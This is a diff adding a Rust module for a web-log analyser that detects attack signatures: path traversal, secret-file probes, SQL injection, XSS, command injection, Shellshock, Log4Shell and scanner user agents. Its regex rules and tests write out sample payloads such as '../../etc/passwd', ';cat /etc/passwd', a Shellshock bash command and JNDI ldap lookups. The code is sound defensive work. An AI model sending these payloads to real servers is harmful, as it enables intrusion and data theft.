@@ -1,0 +1,519 @@
+//! Attack signatures in the request target, the referer and the user agent.
+//!
+//! **What it detects:** path traversal, probes for secrets and internals (`/.env`,
+//! `/.git/`, `wp-config`, backups, admin consoles), SQL injection, cross-site scripting,
+//! command injection (and Shellshock), Log4Shell `${jndi:` lookups, and the user agents of
+//! known scanners and attack tools.
+//!
+//! **Why it matters:** these are the first moves of most web attacks, and they are
+//! written plainly in the access log. Matching happens after
+//! [`normalize_request_text`](super::normalize_request_text), so double encoding, overlong
+//! UTF-8 or backslashes do not hide them.
+//!
+//! **Example lines:**
+//! ```text
+//! 192.0.2.150 - - [12/Mar/2024:10:03:07 +0100] "GET /products?id=1%20UNION%20ALL%20SELECT%20NULL--%20- HTTP/1.1" 500 734 "-" "sqlmap/1.7.2#stable"
+//! 198.51.100.9 - - [11/Mar/2024:21:04:00 +0100] "GET / HTTP/1.1" 200 5321 "-" "${jndi:ldap://198.51.100.9:1389/Exploit}"
+//! ```
+//!
+//! Lines from one client with the same kind of signature make one finding: one incident,
+//! however many requests it took.
+
+use super::normalize::normalize_request_text;
+use super::{Detector, Evidence, score_with_repetition};
+use crate::display_text::for_display;
+use crate::finding::{Finding, FindingKind};
+use crate::record::AccessRecord;
+use regex::RegexSet;
+use std::collections::hash_map::Entry;
+use std::collections::{BTreeSet, HashMap};
+use std::sync::LazyLock;
+
+/// Tuning for [`SignatureDetector`].
+#[derive(Debug, Clone, PartialEq)]
+pub struct SignatureOptions {
+    /// Look for signatures in the user agent and referer too, not only the target.
+    pub check_headers: bool,
+}
+
+impl Default for SignatureOptions {
+    fn default() -> Self {
+        Self {
+            check_headers: true,
+        }
+    }
+}
+
+/// Where a rule looks.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Place {
+    /// The request target (path and query), or the raw request line.
+    Target,
+    /// The user agent and referer headers.
+    Headers,
+    /// Both.
+    Anywhere,
+}
+
+/// One signature: a name for people, a pattern over normalised (lower-case) text.
+struct Rule {
+    kind: FindingKind,
+    name: &'static str,
+    place: Place,
+    pattern: &'static str,
+}
+
+const RULES: &[Rule] = &[
+    // Path traversal: climbing out of the web root, or naming the files it is for.
+    Rule {
+        kind: FindingKind::PathTraversal,
+        name: "../",
+        place: Place::Target,
+        pattern: r"\.\./|/\.\.$",
+    },
+    Rule {
+        kind: FindingKind::PathTraversal,
+        name: "system file",
+        place: Place::Target,
+        pattern: r"/etc/(passwd|shadow|group|hosts)\b|win\.ini|boot\.ini|/proc/self/",
+    },
+    // Secrets and internals nobody but an attacker asks a public site for.
+    Rule {
+        kind: FindingKind::SensitiveFileProbe,
+        name: "dotfile",
+        place: Place::Target,
+        pattern: r"/\.(env|git|svn|hg|htpasswd|htaccess|aws|ssh|ds_store|docker|npmrc|bash_history)(/|$|\?|\.)",
+    },
+    Rule {
+        kind: FindingKind::SensitiveFileProbe,
+        name: "config or backup",
+        place: Place::Target,
+        pattern: r"wp-config|/config\.php|\.(bak|old|orig|swp|save|sql|sqlite|db)($|\?)|/(backup|backups|dump|database|db|site|www)\.(zip|tar|tgz|tar\.gz|rar|7z|sql)",
+    },
+    Rule {
+        kind: FindingKind::SensitiveFileProbe,
+        name: "admin console",
+        place: Place::Target,
+        pattern: r"/(phpmyadmin|pma|adminer|myadmin)(/|\.php|$)|/server-status|/actuator/(env|heapdump)|/web\.config|/console($|/)",
+    },
+    // SQL injection: SQL structure, not just a quote (people search for o'reilly).
+    Rule {
+        kind: FindingKind::SqlInjection,
+        name: "union select",
+        place: Place::Anywhere,
+        // SQL after the select (`null,`, `1,2`, `@@version`, `a,b from`), not a search phrase.
+        pattern: r"union(\s|/\*.*?\*/)+(all\s+|distinct\s+)?select(\s|/\*.*?\*/)*(null|\d|@|\*|\(|[a-z_.]+\s*(,|\sfrom\b))",
+    },
+    Rule {
+        kind: FindingKind::SqlInjection,
+        name: "boolean test",
+        place: Place::Anywhere,
+        pattern: r"=-?\d+'+($|&|\s|\))|'\s*(or|and)\s+('[^']*'|\d+)\s*(=|like)|\b(or|and)\s+(\d+)\s*=\s*(\d+)\b|'\s*(or|and)\s*'\w*'\s*=\s*'",
+    },
+    Rule {
+        kind: FindingKind::SqlInjection,
+        name: "time delay",
+        place: Place::Anywhere,
+        pattern: r"\bsleep\s*\(\s*\d|benchmark\s*\(|pg_sleep|waitfor\s+delay",
+    },
+    Rule {
+        kind: FindingKind::SqlInjection,
+        name: "stacked or catalog query",
+        place: Place::Anywhere,
+        pattern: r";\s*(drop|insert|update|delete|select|shutdown|exec)\s|information_schema|xp_cmdshell|load_file\s*\(|into\s+(out|dump)file|extractvalue\s*\(|updatexml\s*\(|'\s*(--|#)",
+    },
+    // Cross-site scripting, also in headers a log viewer might render.
+    Rule {
+        kind: FindingKind::Xss,
+        name: "script markup",
+        place: Place::Anywhere,
+        pattern: r"<\s*/?\s*script|<[^>]*[\s/]on[a-z]+\s*=|javascript\s*:|<\s*(svg|iframe|object|embed)\b",
+    },
+    Rule {
+        kind: FindingKind::Xss,
+        name: "script call",
+        place: Place::Anywhere,
+        pattern: r"alert\s*\(|document\.(cookie|domain)|string\.fromcharcode|eval\s*\(",
+    },
+    // Command injection, and Shellshock in headers.
+    // A command after a shell separator, ending as shell syntax would (not `;id=5`).
+    Rule {
+        kind: FindingKind::CommandInjection,
+        name: "shell command",
+        place: Place::Target,
+        pattern: r"(;|\||&&|\$\(|`)\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|python|perl|ping|nslookup|rm|chmod)(\s|$|;|\||&|`|\))|/bin/(ba)?sh\b|cmd(\.exe)?\s*/c\b|powershell",
+    },
+    // In headers only the unmistakable forms: user agents are full of `; id)` and the like.
+    Rule {
+        kind: FindingKind::CommandInjection,
+        name: "shell in header",
+        place: Place::Headers,
+        pattern: r"\$\([a-z]+[^)]*\)|`[a-z]+[^`]*`|/bin/(ba)?sh\b|(wget|curl)\s+(-\S+\s+)*https?://|\|\s*(ba)?sh\b",
+    },
+    Rule {
+        kind: FindingKind::CommandInjection,
+        name: "shellshock",
+        place: Place::Anywhere,
+        pattern: r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;",
+    },
+    // Log4Shell, plain or with nested lookups hiding the word jndi.
+    Rule {
+        kind: FindingKind::Log4Shell,
+        name: "jndi lookup",
+        place: Place::Anywhere,
+        pattern: r"\$\{\s*jndi\s*:|\$\{[^}]{0,40}\$\{|\$\{::-",
+    },
+    // Tools that announce themselves.
+    Rule {
+        kind: FindingKind::ScannerUserAgent,
+        name: "attack tool",
+        place: Place::Headers,
+        pattern: r"nikto|sqlmap|nmap|masscan|zgrab|nuclei|gobuster|dirbuster|\bdirb\b|wpscan|acunetix|nessus|openvas|w3af|hydra|zmeu|morfeus|fimap|havij|jorgee|netsparker|wfuzz|ffuf|feroxbuster|whatweb|arachni|skipfish|commix|xsstrike",
+    },
+];
+
+/// How bad each kind is to begin with, and how sure a match makes us.
+fn base_score_and_confidence(kind: FindingKind) -> (u8, f64) {
+    match kind {
+        FindingKind::Log4Shell => (92, 0.95),
+        FindingKind::CommandInjection => (85, 0.85),
+        FindingKind::SqlInjection => (78, 0.85),
+        FindingKind::PathTraversal => (72, 0.85),
+        FindingKind::Xss => (66, 0.8),
+        FindingKind::SensitiveFileProbe => (50, 0.75),
+        FindingKind::ScannerUserAgent => (45, 0.9),
+        FindingKind::BruteForce | FindingKind::Scanning => (50, 0.5),
+    }
+}
+
+/// What one client did of one kind.
+#[derive(Debug)]
+struct Hits {
+    evidence: Evidence,
+    rules: BTreeSet<&'static str>,
+    answered_2xx: u64,
+    answered_5xx: u64,
+    first_target: String,
+}
+
+impl Hits {
+    fn count_answer(&mut self, status: u16) {
+        match status {
+            200..=299 => self.answered_2xx += 1,
+            500..=599 => self.answered_5xx += 1,
+            _ => {}
+        }
+    }
+}
+
+/// Finds the signatures listed above; see the module docs.
+#[derive(Debug)]
+pub struct SignatureDetector {
+    options: SignatureOptions,
+    max_evidence_lines: usize,
+    hits: HashMap<(Box<str>, FindingKind), Hits>,
+}
+
+impl SignatureDetector {
+    /// A detector listing at most `max_evidence_lines` lines per finding.
+    pub fn new(options: SignatureOptions, max_evidence_lines: usize) -> Self {
+        Self {
+            options,
+            max_evidence_lines,
+            hits: HashMap::new(),
+        }
+    }
+}
+
+/// The rules for the target and for headers, each compiled once into one set (with each
+/// set index's rule), shared by every analysis.
+static TARGET_RULES: LazyLock<(RegexSet, Vec<usize>)> =
+    LazyLock::new(|| rule_set(|place| place != Place::Headers));
+static HEADER_RULES: LazyLock<(RegexSet, Vec<usize>)> =
+    LazyLock::new(|| rule_set(|place| place != Place::Target));
+
+fn rule_set(applies: impl Fn(Place) -> bool) -> (RegexSet, Vec<usize>) {
+    let index: Vec<usize> = (0..RULES.len())
+        .filter(|&i| applies(RULES[i].place))
+        .collect();
+    let set = RegexSet::new(index.iter().map(|&i| RULES[i].pattern))
+        .unwrap_or_else(|e| panic!("a signature pattern does not compile: {e}"));
+    (set, index)
+}
+
+impl Detector for SignatureDetector {
+    fn observe(&mut self, line_no: u64, record: &AccessRecord<'_>) {
+        let target = normalize_request_text(record.target.unwrap_or(record.request));
+        let (target_rules, target_index) = &*TARGET_RULES;
+        let mut matched: Vec<usize> = target_rules
+            .matches(&target)
+            .iter()
+            .map(|i| target_index[i])
+            .collect();
+        if self.options.check_headers {
+            let (header_rules, header_index) = &*HEADER_RULES;
+            for header in [record.user_agent, record.referer].into_iter().flatten() {
+                let header = normalize_request_text(header);
+                matched.extend(
+                    header_rules
+                        .matches(&header)
+                        .iter()
+                        .map(|i| header_index[i]),
+                );
+            }
+        }
+        if matched.is_empty() {
+            return;
+        }
+        matched.sort_unstable();
+        matched.dedup();
+        // A line counts once per kind, however many of that kind's rules it matches.
+        let mut kinds_counted: Vec<FindingKind> = Vec::new();
+        for rule in matched.iter().map(|&i| &RULES[i]) {
+            let first_of_kind = !kinds_counted.contains(&rule.kind);
+            kinds_counted.push(rule.kind);
+            match self.hits.entry((Box::from(record.client), rule.kind)) {
+                Entry::Vacant(slot) => {
+                    let mut hits = Hits {
+                        evidence: Evidence::new(line_no, record.time, self.max_evidence_lines),
+                        rules: BTreeSet::from([rule.name]),
+                        answered_2xx: 0,
+                        answered_5xx: 0,
+                        first_target: for_display(record.target.unwrap_or(record.request), 120),
+                    };
+                    hits.count_answer(record.status);
+                    slot.insert(hits);
+                }
+                Entry::Occupied(mut slot) => {
+                    let hits = slot.get_mut();
+                    hits.rules.insert(rule.name);
+                    if first_of_kind {
+                        hits.evidence.add(line_no, record.time);
+                        hits.count_answer(record.status);
+                    }
+                }
+            }
+        }
+    }
+
+    fn finish(self: Box<Self>) -> Vec<Finding> {
+        self.hits
+            .into_iter()
+            .map(|((client, kind), hits)| {
+                let (base, confidence) = base_score_and_confidence(kind);
+                // A 2xx to a traversal or a probe may mean the file was served.
+                let served = matches!(
+                    kind,
+                    FindingKind::PathTraversal | FindingKind::SensitiveFileProbe
+                ) && hits.answered_2xx > 0;
+                let score = score_with_repetition(base, hits.evidence.count(), 8)
+                    .saturating_add(if served { 10 } else { 0 });
+                let confidence = if hits.evidence.count() >= 3 {
+                    confidence + 0.05
+                } else {
+                    confidence
+                };
+                let description = describe(kind, &client, &hits);
+                hits.evidence.into_finding(
+                    kind,
+                    &client,
+                    score.min(100),
+                    confidence,
+                    description,
+                    Vec::new(),
+                )
+            })
+            .collect()
+    }
+}
+
+fn describe(kind: FindingKind, client: &str, hits: &Hits) -> String {
+    let count = hits.evidence.count();
+    let requests = if count == 1 {
+        "1 request".to_owned()
+    } else {
+        format!("{count} requests")
+    };
+    let rules: Vec<&str> = hits.rules.iter().copied().collect();
+    let mut answered = Vec::new();
+    if hits.answered_2xx > 0 {
+        answered.push(format!("{} answered 2xx", hits.answered_2xx));
+    }
+    if hits.answered_5xx > 0 {
+        answered.push(format!("{} answered 5xx", hits.answered_5xx));
+    }
+    let answered = if answered.is_empty() {
+        String::new()
+    } else {
+        format!("; {}", answered.join(", "))
+    };
+    format!(
+        "{requests} from {} with {} signatures ({}){answered}; first: {}",
+        for_display(client, 64),
+        kind.label().to_lowercase(),
+        rules.join(", "),
+        hits.first_target
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::time::LogTime;
+
+    /// The kinds the detector reports for one request.
+    fn kinds_for(
+        target: &str,
+        user_agent: Option<&str>,
+        referer: Option<&str>,
+    ) -> Vec<FindingKind> {
+        let record = AccessRecord {
+            client: "192.0.2.1",
+            identity: None,
+            user: None,
+            time: LogTime {
+                epoch_secs: 0,
+                offset_secs: 0,
+            },
+            request: "GET",
+            method: Some("GET"),
+            target: Some(target),
+            protocol: Some("HTTP/1.1"),
+            status: 200,
+            bytes_sent: Some(1),
+            referer,
+            user_agent,
+        };
+        let mut detector = Box::new(SignatureDetector::new(SignatureOptions::default(), 10));
+        detector.observe(1, &record);
+        let mut kinds: Vec<FindingKind> = detector.finish().into_iter().map(|f| f.kind).collect();
+        kinds.sort();
+        kinds
+    }
+
+    macro_rules! target_cases {
+        ($($name:ident: $target:expr => [$($kind:ident),*];)*) => {$(
+            #[test]
+            fn $name() {
+                assert_eq!(kinds_for($target, None, None), vec![$(FindingKind::$kind),*], "{}", $target);
+            }
+        )*};
+    }
+
+    target_cases! {
+        traversal_plain: "/download?file=../../../../etc/passwd" => [PathTraversal];
+        traversal_double_encoded: "/static/..%252f..%252f..%252fetc%252fhosts" => [PathTraversal];
+        traversal_overlong: "/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini" => [PathTraversal];
+        traversal_tomcat: "/app/..;/manager/html" => [PathTraversal];
+        traversal_backslash: "/download?file=..%5c..%5cwindows%5cwin.ini" => [PathTraversal];
+        probe_env: "/.env" => [SensitiveFileProbe];
+        probe_git: "/.git/config" => [SensitiveFileProbe];
+        probe_wp_config: "/wp-config.php.bak" => [SensitiveFileProbe];
+        probe_sql_dump: "/backup.sql" => [SensitiveFileProbe];
+        probe_phpmyadmin: "/phpMyAdmin/index.php" => [SensitiveFileProbe];
+        sqli_union: "/item?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--" => [SqlInjection];
+        sqli_boolean: "/item?id=1'%20OR%20'1'%3D'1" => [SqlInjection];
+        sqli_number_equals: "/item?id=1+and+1%3D1" => [SqlInjection];
+        sqli_sleep: "/search?q=1'%20AND%20SLEEP(5)%23" => [SqlInjection];
+        sqli_quote_after_number: "/products?id=7'" => [SqlInjection];
+        sqli_comment_obfuscated: "/item?id=1/**/UnIoN/**/SeLeCt/**/1,2" => [SqlInjection];
+        xss_script: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" => [Xss];
+        xss_event_handler: "/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E" => [Xss];
+        xss_javascript_url: "/go?to=JaVaScRiPt:alert(document.cookie)" => [Xss];
+        command_semicolon: "/ping?host=127.0.0.1;cat%20/etc/passwd" => [PathTraversal, CommandInjection];
+        command_subshell: "/ping?host=$(whoami)" => [CommandInjection];
+        command_pipe_end: "/lookup?name=x|id" => [CommandInjection];
+        log4shell_in_path: "/$%7Bjndi:ldap://x/a%7D" => [Log4Shell];
+        log4shell_nested: "/?x=${${lower:j}ndi:rmi://x/a}" => [Log4Shell];
+        legit_home: "/" => [];
+        legit_search_with_quotes: "/search?q=o'reilly+%22learning+rust%22" => [];
+        legit_search_union: "/search?q=union+select+committee" => [];
+        legit_session_param: "/cart;jsessionid=ABC123?item=5" => [];
+        legit_matrix_id: "/items;id=5/edit" => [];
+        legit_login_page: "/blog/login-tips-for-beginners" => [];
+        legit_backup_article: "/docs/backup-guide.pdf" => [];
+        legit_archive_download: "/downloads/release-2.3.tar.gz" => [];
+        legit_env_word: "/environment/settings" => [];
+        legit_or_in_text: "/search?q=black+or+white" => [];
+        legit_version_query: "/static/app.js?v=1.2.3" => [];
+    }
+
+    #[test]
+    fn scanner_and_attacks_in_headers() {
+        assert_eq!(
+            kinds_for("/", Some("sqlmap/1.7.2#stable (https://sqlmap.org)"), None),
+            [FindingKind::ScannerUserAgent]
+        );
+        assert_eq!(
+            kinds_for(
+                "/",
+                Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
+                None
+            ),
+            [FindingKind::ScannerUserAgent]
+        );
+        assert_eq!(
+            kinds_for("/", Some("${jndi:ldap://x:1389/a}"), None),
+            [FindingKind::Log4Shell]
+        );
+        assert_eq!(
+            kinds_for("/", Some("() { :; }; /bin/bash -c 'id'"), None),
+            [FindingKind::CommandInjection]
+        );
+        assert_eq!(
+            kinds_for("/", None, Some("https://x/<script>alert(1)</script>")),
+            [FindingKind::Xss]
+        );
+    }
+
+    #[test]
+    fn ordinary_headers_are_quiet() {
+        for agent in [
+            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            "curl/8.5.0",
+            "python-requests/2.31.0",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
+        ] {
+            assert_eq!(
+                kinds_for(
+                    "/",
+                    Some(agent),
+                    Some("https://www.google.com/search?q=a+or+b")
+                ),
+                [],
+                "{agent}"
+            );
+        }
+    }
+
+    #[test]
+    fn switching_headers_off_ignores_them() {
+        let record_agent = Some("sqlmap/1.7");
+        let mut detector = Box::new(SignatureDetector::new(
+            SignatureOptions {
+                check_headers: false,
+            },
+            10,
+        ));
+        let record = AccessRecord {
+            client: "192.0.2.1",
+            identity: None,
+            user: None,
+            time: LogTime {
+                epoch_secs: 0,
+                offset_secs: 0,
+            },
+            request: "GET / HTTP/1.1",
+            method: Some("GET"),
+            target: Some("/"),
+            protocol: Some("HTTP/1.1"),
+            status: 200,
+            bytes_sent: None,
+            referer: None,
+            user_agent: record_agent,
+        };
+        detector.observe(1, &record);
+        assert!(detector.finish().is_empty());
+    }
+}
